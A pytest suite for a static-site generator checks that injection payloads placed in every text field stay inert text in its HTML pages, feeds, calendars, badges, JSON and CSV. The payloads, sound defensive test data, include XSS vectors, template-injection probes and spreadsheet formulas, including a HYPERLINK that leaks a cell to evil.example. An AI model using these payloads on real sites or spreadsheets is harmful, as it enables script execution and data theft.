"""Injection: hostile text in every field is shown as text in every output and never runs.

One site is built whose every text field (site, council, plan, statuses, groups,
recommendations, actions, updates) holds script tags, event handlers, script and
data links, raw HTML, quotes that try to leave an attribute, template syntax and
spreadsheet formulas. Then every output is parsed the way its reader would parse
it — pages and embeds as HTML, feeds as XML (and their HTML content as HTML),
data as JSON and CSV — and checked for anything that could run.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import posixpath
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import icalendar
import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from actionplan.commands.build import build
from actionplan.errors import ContentErrors
from actionplan.pipeline import Options
from actionplan.sources.schema import load_schema, resolve

# Each line is a different way in; markdown fields also get the link and reference forms.
PAYLOAD = "\n".join(
    [
        "<script>alert('script')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<img src=x onerror="alert(1)"><svg onload=alert(2)><body onpageshow=alert(3)>',
        "\"'><script>alert(4)</script><a title=\"x\" onmouseover='alert(5)'",
        '<a href="javascript:alert(6)">raw link</a> <iframe src="data:text/html,<script>alert(7)</script>"></iframe>',
        '<style>body{display:none}</style><div style="background:url(javascript:alert(8))">styled</div>',
        "&lt;script&gt;alert(9)&lt;/script&gt; <!-- comment --> ]]> </textarea></title>",
        '<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(20)"><form action="javascript:alert(21)">',
        "[js](javascript:alert(10)) [JS](JaVaScRiPt:alert(11)) [tab](jav&#x09;ascript:alert(12))",
        "[colon](javascript&#58;alert(13)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=)",
        "[vb](vbscript:msgbox(15)) <javascript:alert(16)> ![img](javascript:alert(17)) [ref][evil]",
        "X{{ 7*7 }}X X{{ 7*'7' }}X X{% print 6*7 %}X {{ ''.__class__.__mro__ }} {# hidden #} {% raw %}",
        "",
        "[evil]: javascript:alert(18)",
    ]
)
EVALUATED = ("X49X", "X7777777X", "X42X")  # what the template syntax would print if it ran
URL = "https://example.org/plans/\"><script>alert('url')</script>'onmouseover=alert(19)"
EMAIL = "\"><script>alert('email')</script>@example.org"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "poster", "srcset", "data", "xlink:href", "background", "cite")
AS_OF = datetime.date(2024, 6, 1)


def text(start: str = "") -> str:
    return start + PAYLOAD


SITE = {
    "title": text(),
    "base_url": URL,
    "language": "en-GB",
    "owner": {"name": text(), "email": EMAIL, "phone": text(), "url": URL},
    "theme": {"brand_colour": "#1d4f73"},  # a logo is a file name, refused unless it is one (tested below)
    "accessibility": {
        "prepared": "2024-01-02",
        "last_reviewed": "2024-03-04",
        "tested_by": text(),
        "non_accessible": text(),
    },
}
COUNCIL = {"name": text("="), "short_name": text("+"), "website": URL}
PLAN = {
    "title": text("-"),
    "review": text(),
    "review_date": "2023-03",
    "published": "2023-06-20",
    "updated": "2024-05-01",
    "report_url": URL,
    "summary": text(),
    "notes": text(),
    "sources": [{"title": text(), "date": "2024-05", "url": URL}],
    "reports": [{"date": "2024-05-01", "title": text("=HYPERLINK("), "url": URL, "kind": "committee"}],
    "statuses": {"paused": {"label": text("@cmd"), "aliases": [text()], "counts_as": "at-risk"}},
    "groups": [{"id": "formal", "title": text(), "description": text()}],
    "recommendations": [
        {
            "id": "1",
            "label": text(),
            "title": text(),
            "group": "formal",
            "detail": text(),
            "position": text(),
            "lead": text(),
            "notes": text(),
            "actions": [
                {
                    "id": "1.1",
                    "label": text('=HYPERLINK("https://evil.example/?leak="&A1)'),
                    "text": text("+SUM(1)"),
                    "lead": text("-2+3"),
                    "due": text("@SUM(1)"),
                    "status": text(),  # an alias of the plan's own status "paused"
                    "status_text": text(),
                    "updates": [
                        {
                            "date": "2024-04-01",
                            "status": text(),
                            "note": text(),
                            "source": URL,
                            "sources": [{"title": text(), "url": URL}],
                        }
                    ],
                    "progress_note": text(),
                    "withdrawn_reason": text(),
                    "actions": [{"text": text("="), "due": "June 2025"}],  # a deadline, for the calendar
                    "notes": text(),
                }
            ],
        },
        {"id": "2", "title": text(), "group": "formal", "covered_by": "1"},
    ],
}


def _dump(value: dict[str, Any]) -> str:
    return yaml.safe_dump(value, allow_unicode=True, sort_keys=False, width=10_000)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the hostile site once."""
    root = tmp_path_factory.mktemp("injection")
    (root / "content/acme").mkdir(parents=True)
    (root / "content/site.yaml").write_text(_dump(SITE), encoding="utf-8")
    (root / "content/acme/council.yaml").write_text(_dump(COUNCIL), encoding="utf-8")
    (root / "content/acme/cpc-2024.yaml").write_text(_dump(PLAN), encoding="utf-8")
    warnings = build(Options(content=root / "content", output=root / "site", as_of=AS_OF))
    assert all(not w.is_error for w in warnings)
    return root / "site"


def outputs(site: Path, suffix: str) -> list[Path]:
    found = sorted(site.rglob(f"*{suffix}"))
    assert found, f"no {suffix} files were built"
    return found


# ----------------------------------------------------------------- every text field gets a payload


def _string_fields(
    schema: dict[str, Any], root: dict[str, Any], path: str, seen: frozenset[str]
) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield (path, schema) for every string the schema allows; sub-actions are the same shape, so stop there."""
    if "$ref" in schema:
        if schema["$ref"] in seen:
            return
        seen = seen | {schema["$ref"]}
        schema = resolve(schema, root)
    kinds = schema.get("type", [])
    kinds = [kinds] if isinstance(kinds, str) else kinds  # an optional field's is [kind, "null"]
    if "object" in kinds:
        for key, value in schema.get("properties", {}).items():
            yield from _string_fields(value, root, f"{path}.{key}", seen)
        if isinstance(schema.get("additionalProperties"), dict):
            yield from _string_fields(schema["additionalProperties"], root, f"{path}.*", seen)
    elif "array" in kinds:
        yield from _string_fields(schema.get("items", {}), root, f"{path}[]", seen)
    elif "string" in kinds:
        yield path, schema


def _given(value: Any, path: str) -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _given(item, f"{path}.*" if path.endswith(".statuses") else f"{path}.{key}")
    elif isinstance(value, list):
        for item in value:
            yield from _given(item, f"{path}[]")
    else:
        yield path, value


def _kind(field: dict[str, Any]) -> str:
    pattern = field.get("pattern")
    if "enum" not in field and pattern in (None, "\\S"):  # "\S": any text that is not only spaces
        return "text"
    if pattern and pattern.startswith(("^(https?://", "^https?://")):
        return "url"
    return "email" if pattern and pattern.startswith("^[^@") else "restricted"


@pytest.mark.parametrize(("name", "document"), [("site", SITE), ("council", COUNCIL), ("plan", PLAN)])
def test_every_text_field_carries_the_payload(name: str, document: dict[str, Any]) -> None:
    """Every free-text, URL and email field gets a payload; every other field refuses all of them."""
    schema = load_schema(name)
    given = dict(_given(document, name))
    for path, field in _string_fields(schema, schema, name, frozenset()):
        kind = _kind(field)
        if kind == "restricted":
            for sample in [*PAYLOAD.splitlines(), PAYLOAD, URL, EMAIL]:
                refused = sample not in field["enum"] if "enum" in field else not re.search(field["pattern"], sample)
                assert refused, f"{path} would accept {sample!r}"
        elif kind == "text":
            assert str(given.get(path, "")).endswith(PAYLOAD), f"{path} has no payload"
        else:
            assert given.get(path) == (URL if kind == "url" else EMAIL), f"{path} has no hostile {kind}"


# ----------------------------------------------------------------- pages and embeds


def _is_bad_url(value: str) -> bool:
    squashed = re.sub(r"[\x00-\x20]+", "", value).lower()
    return squashed.startswith(BAD_SCHEMES)


def assert_inert(soup: BeautifulSoup | Tag, where: str) -> None:
    """Nothing in this HTML can run: no inline or foreign script, no handler, no script or data link."""
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            values = value if isinstance(value, list) else [value]
            assert not name.lower().startswith("on"), f"{where}: <{tag.name} {name}=…>"
            if name.lower() in URL_ATTRIBUTES:
                assert not any(_is_bad_url(v) for v in values), f"{where}: <{tag.name} {name}={value!r}>"
        assert tag.name not in ("iframe", "object", "embed", "style", "base", "frame"), f"{where}: <{tag.name}>"
        assert "style" not in tag.attrs, f"{where}: <{tag.name} style=…> (the CSP would block it)"
        if tag.name == "meta" and tag.get("http-equiv", "").lower() == "refresh":
            pytest.fail(f"{where}: <meta http-equiv=refresh>")


def _csp(soup: BeautifulSoup) -> dict[str, list[str]]:
    metas = soup.find_all("meta", attrs={"http-equiv": re.compile("^content-security-policy$", re.I)})
    assert len(metas) == 1
    directives = {}
    for part in metas[0]["content"].split(";"):
        if words := part.split():
            directives[words[0].lower()] = words[1:]
    return directives


def _in_site(where: str, address: str) -> str:
    """Return the site file a same-origin address on page ``where`` points to (404.html uses root-relative ones)."""
    base_path = urlsplit(URL).path
    if address.startswith(base_path + "/"):
        return address[len(base_path) + 1 :]
    return posixpath.normpath(posixpath.join(posixpath.dirname(where), address))


def test_pages_run_no_content(site: Path) -> None:
    for page in outputs(site, ".html"):
        where = page.relative_to(site).as_posix()
        soup = BeautifulSoup(page.read_text("utf-8"), "html.parser")
        assert_inert(soup, where)
        for script in soup.find_all("script"):
            src = script.get("src")
            assert src and not script.get_text().strip(), f"{where}: inline script"
            target = _in_site(where, src)
            assert not urlsplit(src).scheme and not src.startswith("//"), f"{where}: foreign script {src}"
            assert target.startswith("assets/") and (site / target).is_file(), f"{where}: script {src}"


def test_pages_show_the_hostile_text_as_text(site: Path) -> None:
    plan_page = BeautifulSoup((site / "acme/cpc-2024/1/index.html").read_text("utf-8"), "html.parser")
    shown = plan_page.get_text()
    for words in ("<script>alert('script')</script>", "X{{ 7*7 }}X", "X{% print 6*7 %}X", 'onerror="alert(1)"'):
        assert words in shown
    assert "[js](javascript:alert(10))" in shown  # a refused link stays visible as the text that was written


def test_template_syntax_never_runs(site: Path) -> None:
    for path in sorted(p for p in site.rglob("*") if p.is_file()):
        data = path.read_bytes()
        for printed in EVALUATED:
            assert printed.encode() not in data, f"{path.relative_to(site)} ran template syntax"
    assert b"X{{ 7*7 }}X" in (site / "index.html").read_bytes()


def test_every_page_has_a_strict_content_security_policy(site: Path) -> None:
    for page in outputs(site, ".html"):
        where = page.relative_to(site).as_posix()
        soup = BeautifulSoup(page.read_text("utf-8"), "html.parser")
        policy = _csp(soup)
        assert policy.get("default-src") in (["'none'"], ["'self'"]), where
        for directive in ("script-src", "style-src"):
            allowed = policy.get(directive, policy["default-src"])
            assert set(allowed) <= {"'self'", "'none'"}, f"{where}: {directive} {allowed}"
        assert not any("unsafe" in source or source == "*" for sources in policy.values() for source in sources)
        # The policy applies only to what follows it, so it must come before every script and stylesheet.
        meta = soup.find("meta", attrs={"http-equiv": re.compile("content-security-policy", re.I)})
        assert meta is not None and meta.parent.name == "head"
        first = soup.find(["script", "link", "style"])
        assert (
            first is None
            or meta.sourceline < first.sourceline
            or (meta.sourceline == first.sourceline and meta.sourcepos < first.sourcepos)
        ), where


def test_the_site_needs_nothing_the_policy_blocks(site: Path) -> None:
    """Only same-origin stylesheets and scripts, and no inline style the policy would refuse."""
    for page in outputs(site, ".html"):
        where = page.relative_to(site).as_posix()
        soup = BeautifulSoup(page.read_text("utf-8"), "html.parser")
        for link in soup.find_all("link", rel="stylesheet"):
            href = link["href"]
            assert not urlsplit(href).scheme and (site / _in_site(where, href)).is_file(), f"{where}: {href}"
        for image in soup.find_all("img"):
            assert not urlsplit(image["src"]).scheme and not image["src"].startswith("//"), f"{where}: {image}"


def test_embeds_are_inert(site: Path) -> None:
    embed = site / "acme/cpc-2024/embed/index.html"
    soup = BeautifulSoup(embed.read_text("utf-8"), "html.parser")
    assert soup.find("script") is None
    assert _csp(soup).get("script-src", _csp(soup)["default-src"]) == ["'none'"]
    assert "X{{ 7*7 }}X" in soup.get_text()


def test_a_logo_cannot_be_a_script_address(tmp_path: Path) -> None:
    """theme.logo is drawn as <img src>: an address with a scheme must be refused, like every other URL field."""
    (tmp_path / "content/acme").mkdir(parents=True)
    (tmp_path / "content/site.yaml").write_text("theme:\n  logo: javascript:alert(1)\n")
    (tmp_path / "content/acme/council.yaml").write_text("name: Acme\n")
    (tmp_path / "content/acme/cpc-2024.yaml").write_text(
        _dump({"title": "T", "recommendations": [{"id": "1", "title": "R", "actions": [{"text": "A"}]}]})
    )
    try:
        build(Options(content=tmp_path / "content", output=tmp_path / "site", as_of=AS_OF))
    except ContentErrors as exc:  # refused as content: the best outcome
        assert any("logo" in str(p) for p in exc.problems)
        return
    soup = BeautifulSoup((tmp_path / "site/index.html").read_text("utf-8"), "html.parser")
    assert_inert(soup, "index.html")


# ----------------------------------------------------------------- feeds, data and spreadsheets

ATOM = "{http://www.w3.org/2005/Atom}"


def test_feeds_are_well_formed_and_their_html_is_inert(site: Path) -> None:
    for feed in outputs(site, "feed.xml"):
        where = feed.relative_to(site).as_posix()
        root = ET.parse(feed).getroot()  # raises on anything that is not well-formed XML
        assert root.tag == f"{ATOM}feed"
        for link in root.iter(f"{ATOM}link"):
            assert urlsplit(link.get("href", "")).scheme in ("http", "https", ""), where
        contents = list(root.iter(f"{ATOM}content"))
        for content in contents:
            assert content.get("type") in ("html", "text", None)
            if content.get("type") == "html":
                assert_inert(BeautifulSoup(content.text or "", "html.parser"), f"{where} <content>")
        for title in root.iter(f"{ATOM}title"):
            assert title.get("type") in (None, "text"), f"{where}: titles are text, never HTML"
    entries = ET.parse(site / "acme/cpc-2024/feed.xml").getroot().findall(f"{ATOM}entry")
    content = entries[0].findtext(f"{ATOM}content") or ""
    assert "{% raw %}" in content and "{# hidden #}" in content  # the note's template syntax, shown as text
    assert not any(evaluated in content for evaluated in EVALUATED)


EVENT_PROPERTIES = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "URL", "TRANSP"}


def test_calendars_take_no_orders_from_the_text(site: Path) -> None:
    """Line breaks in the text cannot start a new calendar property or event."""
    for path in outputs(site, ".ics"):
        data = path.read_bytes()
        calendar = icalendar.Calendar.from_ical(data)
        events = list(calendar.walk("VEVENT"))
        assert len(events) == data.count(b"BEGIN:VEVENT") == 1
        for event in events:
            assert set(event) == EVENT_PROPERTIES
            assert text().split("\n")[0] in str(event["description"])
        assert "\n" not in str(calendar["x-wr-calname"])


def test_badges_and_the_sitemap_are_inert(site: Path) -> None:
    for path in outputs(site, ".svg"):
        if "assets" in path.parts:
            continue
        root = ET.parse(path).getroot()  # raises on anything that is not well-formed XML
        assert {e.tag.split("}")[-1] for e in root.iter()} <= {"svg", "title", "rect", "g", "text"}
        assert not [a for e in root.iter() for a in e.attrib if a.lower().startswith("on")]
        assert text("-").split("\n")[0] in (root.findtext("{http://www.w3.org/2000/svg}title") or "")
    sitemap = ET.parse(site / "sitemap.xml").getroot()
    locs = [loc.text or "" for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locs and all(loc.startswith(URL) for loc in locs)
    assert (site / "robots.txt").read_text("utf-8").splitlines()[-1] == f"Sitemap: {URL}/sitemap.xml"


def test_json_keeps_the_text_exactly(site: Path) -> None:
    actions = json.loads((site / "data/actions.json").read_text("utf-8"))
    plans = json.loads((site / "data/plans.json").read_text("utf-8"))
    by_id = {a["action"]: a for a in actions}
    assert by_id["1.1"]["text"] == text("+SUM(1)")
    assert by_id["1.1"]["lead"] == text("-2+3")
    (child,) = (a for a in actions if a["parent"] == "1.1")
    assert child["text"] == text("=")
    assert plans[0]["title"] == text("-")
    assert plans[0]["council_name"] == text("=")


def _csv_rows(site: Path) -> list[dict[str, str]]:
    raw = (site / "data/actions.csv").read_bytes()
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_cells_never_start_a_formula(site: Path) -> None:
    rows = _csv_rows(site)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{column} = {cell[:20]!r}"
    first = {row["action"]: row for row in rows}["1.1"]
    assert first["label"] == "'" + text('=HYPERLINK("https://evil.example/?leak="&A1)')
    assert first["text"] == "'" + text("+SUM(1)")
    assert first["lead"] == "'" + text("-2+3")
    assert first["due"] == "'" + text("@SUM(1)")
    assert first["status_label"] == "'" + text("@cmd")
